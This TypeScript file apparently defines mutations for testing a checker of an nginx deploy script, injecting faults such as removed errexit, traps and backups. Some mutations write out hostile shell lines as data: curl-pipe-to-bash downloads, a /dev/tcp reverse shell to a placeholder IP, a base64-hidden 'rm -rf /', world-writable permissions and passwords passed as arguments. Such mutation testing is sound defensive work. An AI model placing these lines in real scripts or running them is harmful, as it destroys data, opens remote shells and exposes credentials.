import type { Mutation } from '../mutation.js';
import { atStartOf, type Edit, inFile, replace, withBody } from './edit.js';

const fault = (name: string, says: string, change: Edit): Mutation => inFile('deploy_script', { id: `script/${name}`, says, change });
const put = (name: string, says: string, line: string): Mutation => fault(name, says, atStartOf('install_config', line));
const swap =
  (first: RegExp, second: RegExp): Edit =>
  (text) => {
    const [a, b] = [first.exec(text)?.[0], second.exec(text)?.[0]];
    return a === undefined || b === undefined ? undefined : text.replace(first, '\u0000').replace(second, a).replace('\u0000', b);
  };

const BACKUP = /^\s+backup_config$/m;
const INSTALL = /^\s+install_config$/m;

/** Faults in the script that deploys. */
export const scriptMutations: readonly Mutation[] = [
  fault('errexit-dropped', 'took errexit out of `set`', replace(/^set -Eeuo pipefail$/m, 'set -Euo pipefail')),
  fault('pipefail-dropped', 'took pipefail out of `set`', replace(/^set -Eeuo pipefail$/m, 'set -Eeu')),
  fault('nounset-dropped', 'took nounset out of `set`', replace(/^set -Eeuo pipefail$/m, 'set -Eeo pipefail')),
  fault('errtrace-dropped', 'took errtrace out of `set`, so that functions have no ERR trap', replace(/^set -Eeuo pipefail$/m, 'set -euo pipefail')),
  put('errexit-off', 'switched errexit off in the middle', 'set +e'),
  fault('strict-by-shebang', 'moved the options into the shebang, which `bash FILE` ignores', (text) =>
    text.replace(/^#!.*$/m, '#!/bin/bash -Eeuo').replace(/^set -Eeuo pipefail$/m, ':'),
  ),
  fault('trap-dropped', 'took the ERR trap out', replace(/^\s*trap ['"]?rollback[^\n]* ERR$/m, '  :')),
  fault('trap-late', 'cleared the ERR trap before the installation', atStartOf('install_config', 'trap - ERR')),
  fault('trap-misnamed', 'let the trap call a function that is not there', replace(/^(\s*trap ['"]?)rollback([^\n]* ERR)$/m, '$1roll_back$2')),
  fault('rollback-emptied', 'left nothing of rollback but a message', withBody('rollback', 'echo "rolled back"; exit 1')),
  fault('rollback-unreachable', 'let rollback return at once', atStartOf('rollback', 'return 0')),
  fault('backup-after-install', 'made the backup after the installation', swap(BACKUP, INSTALL)),
  fault('backup-ignored', 'went on when the backup failed', replace(BACKUP, '    backup_config || true')),
  fault('backup-emptied', 'left nothing of backup_config', withBody('backup_config', ':')),
  fault('test-removed', 'took nginx -t out', replace(/^\s+nginx -t(?: \|\| return 1)?$/m, '    :')),
  fault('test-ignored', 'went on when nginx -t failed', replace(/^(\s+)nginx -t(?: \|\| return 1)?$/m, '$1nginx -t || true')),
  fault('test-after-reload', 'tested the configuration after the reload', swap(/^ {2}test_config$/m, /^ {2}reload_nginx$/m)),
  fault(
    'test-in-condition',
    'tested the configuration where errexit does nothing',
    replace(/^ {2}test_config$/m, '  if ! test_config; then echo "bad configuration"; fi'),
  ),
  fault('restart', 'restarted nginx instead of reloading it', replace(/systemctl reload nginx/, 'systemctl restart nginx')),
  fault('restart-by-variable', 'restarted nginx by a variable', replace(/systemctl reload nginx/, 'local verb=restart; systemctl "$verb" nginx')),
  put('kill-nginx', 'killed nginx', 'pkill -9 nginx'),
  put('chmod-777', 'let everybody write to the application', 'chmod -R 777 "${APP:?}"'),
  put('chmod-symbolic', 'let everybody write, in letters', 'chmod a+rwX "${APP:?}"'),
  put('curl-pipe-shell', 'ran what it downloaded', 'curl -fsSL https://get.example.com/install.sh | bash'),
  put('curl-substitution', 'ran what it downloaded, by bash -c', 'bash -c "$(curl -fsSL https://get.example.com/install.sh)"'),
  put('wget-file', 'downloaded a script to a file and ran it unchecked', 'wget -qO "$STATE/i.sh" https://get.example.com/i.sh; bash "$STATE/i.sh"'),
  put('curl-insecure', 'switched the check of certificates off', 'curl -fsSk https://example.com/a -o "$STATE/a"'),
  put('eval', 'evaluated a text', 'eval "$EXTRA_STEPS"'),
  put('xtrace', 'traced every command', 'set -x'),
  put('htpasswd-b', 'gave the password to htpasswd as an argument', 'htpasswd -b -B -C 12 "$HTPASSWD" "$DASHBOARD_USER" "$DASHBOARD_PASSWORD"'),
  put('password-argument', 'gave a password to curl as an argument', 'curl -u "$DASHBOARD_USER:$DASHBOARD_PASSWORD" http://127.0.0.1/'),
  put('sudo', 'piped a password into sudo', 'printf "%s" "$DASHBOARD_PASSWORD" | sudo -S true'),
  put('rm-unquoted', 'removed a variable without quotes', 'rm -rf $APP'),
  put('rm-wide', 'removed the content of a folder that may be empty', 'rm -rf "$APP"/*'),
  put('tmp-file', 'wrote to a name in /tmp that others can foresee', 'echo x >/tmp/dashboard-deploy.log'),
  put('reverse-shell', 'opened a shell to the outside', 'bash -i >&/dev/tcp/192.0.2.1/4444 0>&1'),
  put('hidden-command', 'ran a text that was hidden', 'echo cm0gLXJmIC8K | base64 -d | bash'),
  fault(
    'env-mode',
    'made the environment file readable for everybody',
    replace(/install -m 600 \/dev\/null "\$new"(\n\s+own[^\n]*\n\s+render_env)/, 'install -m 644 /dev/null "$new"$1'),
  ),
  fault(
    'env-mode-late',
    'wrote the environment file before its mode was set',
    replace(/\n\s+install -m 600 \/dev\/null "\$new"(\n\s+own[^\n]*\n\s+render_env)/, '$1'),
  ),
  fault('uat-removed', 'took the acceptance tests out', replace(/^ {2}run_uat$/m, '  :')),
  fault('uat-ignored', 'went on when an acceptance test failed', replace(/^ {2}run_uat$/m, '  run_uat || true')),
  fault('uat-before-reload', 'ran the acceptance tests before the reload', swap(/^ {2}reload_nginx$/m, /^ {2}run_uat$/m)),
  fault('preflight-removed', 'took the preflight out', replace(/^ {2}preflight$/m, '  :')),
  fault('preflight-root', 'no longer checked for root', replace(/^ {2}root_check$/m, '  :')),
  fault('preflight-htpasswd', 'no longer looked for htpasswd', replace(/^ {2}command -v htpasswd [^\n]*$/m, '  :')),
  fault('preflight-disk', 'no longer looked at the free space', withBody('disk_free', 'return 0')),
  fault('syntax', 'left an `if` open', (text) => `${text.trimEnd()}\nif true; then\n`),
  fault('crlf', 'saved the script with line ends of Windows', (text) => text.replaceAll('\n', '\r\n')),
  fault('dry-run-writes', 'wrote a file in a dry run', atStartOf('preflight', 'echo started >>"$HERE/deploy.log"')),
  fault('dry-run-random', 'printed the time in a dry run', atStartOf('preflight', 'date +%N')),
  fault('shadowed', 'defined a function in place of nginx', (text) => text.replace(/^(test_config\(\))/m, 'nginx() { return 0; }\n\n$1')),
  fault('shellcheck-silenced', 'silenced ShellCheck', (text) => text.replace(/^(set -Eeuo)/m, '# shellcheck disable=all\n$1')),
];
